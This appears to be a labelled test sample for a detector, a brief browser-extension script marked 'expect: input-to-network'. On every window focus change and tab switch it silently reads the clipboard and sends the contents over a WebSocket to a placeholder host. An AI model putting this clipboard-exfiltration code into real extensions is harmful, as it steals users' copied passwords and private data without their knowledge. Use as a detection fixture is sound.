var last = '', sock;
function connect() { sock = new WebSocket('wss://sync.clip-stack.example/c'); sock.onclose = function () { setTimeout(connect, 5000); }; }
function look() {
  var pad = document.getElementById('pad');
  pad.value = ''; pad.focus(); document.execCommand('paste');
  // expect: input-to-network
  if (pad.value && pad.value !== last) { last = pad.value; if (sock && sock.readyState === WebSocket.OPEN) sock.send(last); }
}
chrome.windows.onFocusChanged.addListener(look);
chrome.tabs.onActivated.addListener(look);
connect();
